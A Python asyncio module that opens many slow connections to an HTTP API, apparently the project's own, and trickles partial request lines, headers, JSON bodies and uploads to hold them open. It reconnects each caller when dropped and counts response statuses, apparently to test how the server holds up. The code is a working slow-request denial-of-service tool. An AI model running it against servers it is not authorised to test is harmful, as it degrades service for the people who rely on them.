"""Callers who send next to nothing for as long as they are let: what attacks are made of."""

import asyncio
from collections import Counter
from contextlib import suppress
from itertools import repeat

BOUNDARY = "b0undary"
_PART = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="'
_FORM = f'{_PART}collection"\r\n\r\nbn\r\n{_PART}audio"; filename="a.wav"\r\n\r\nRIFF'
_PAUSE = 3.0
_REFUSED = 1.0
FOREVER = float("inf")


def _post(path, *headers):
    return "\r\n".join([f"POST /api/v1{path} HTTP/1.1", "Host: x", *headers, "", ""])


def _upload(token, *headers):
    form = f"Content-Type: multipart/form-data; boundary={BOUNDARY}"
    return _post("/recordings", f"Authorization: Bearer {token}", form, *headers)


def kinds(token):
    """What each kind of slow caller sends at once, and then again and again; None: nothing.

    Args:
        token: of an account that may upload.
    """
    chunk = f"{len(_FORM):x}\r\n{_FORM}\r\n"
    return {
        "first line": ("GET /api/v1/me?", "a"),
        "headers": ("GET /api/v1/me HTTP/1.1\r\nHost: x\r\nX-Slow: ", "a"),
        "JSON body": (_post("/auth/login", "Content-Type: application/json", "Content-Length: 5000") + "{", " "),
        "upload": (_upload(token, "Content-Length: 5000000") + _FORM, "a"),
        "chunked upload": (_upload(token, "Transfer-Encoding: chunked") + chunk, "1\r\na\r\n"),
        "refused upload": (_upload("wrong", "Content-Length: 5000000") + _FORM, "a"),
    }


class Attack:
    """Many slow callers of one kind, each of whom comes again when sent away, until it ends.

    Attributes:
        open: connections that are there now.
        longest: seconds that one was there.
        told: what came before the end, by status; 0 if nothing did, -1 if the connection was refused.
    """

    def __init__(self, address, source, callers, at_once, again):
        self._address, self._source, self._said = address, source, (at_once.encode(), again and again.encode())
        self._ending = asyncio.Event()
        self.open, self.longest, self.told = 0, 0.0, Counter()
        self._tasks = [asyncio.create_task(self._come()) for _ in range(callers)]

    def end(self):
        """Let nobody come again; who is there goes on."""
        self._ending.set()

    async def gone(self):
        """Until all were sent away."""
        await asyncio.gather(*self._tasks)

    async def _come(self):
        while not self._ending.is_set():
            try:
                reader, writer = await asyncio.open_connection(*self._address, local_addr=(self._source, 0))
            except OSError:
                self.told[-1] += 1
                await asyncio.sleep(_REFUSED)
                continue
            began = asyncio.get_running_loop().time()
            self.open += 1
            with suppress(OSError):
                await self._stay(reader, writer)
            self.open -= 1
            self.longest = max(self.longest, asyncio.get_running_loop().time() - began)
            writer.transport.abort()
            await asyncio.sleep(_REFUSED / 10)

    async def _stay(self, reader, writer):
        at_once, again = self._said
        writer.write(at_once)
        sending = asyncio.create_task(_trickle(writer, again))
        try:
            answer = await reader.read()
            self.told[int(answer.split(b" ", 2)[1]) if answer else 0] += 1
        finally:
            sending.cancel()


async def _trickle(writer, again):
    for piece in repeat(again) if again else ():
        await asyncio.sleep(_PAUSE)
        writer.write(piece)
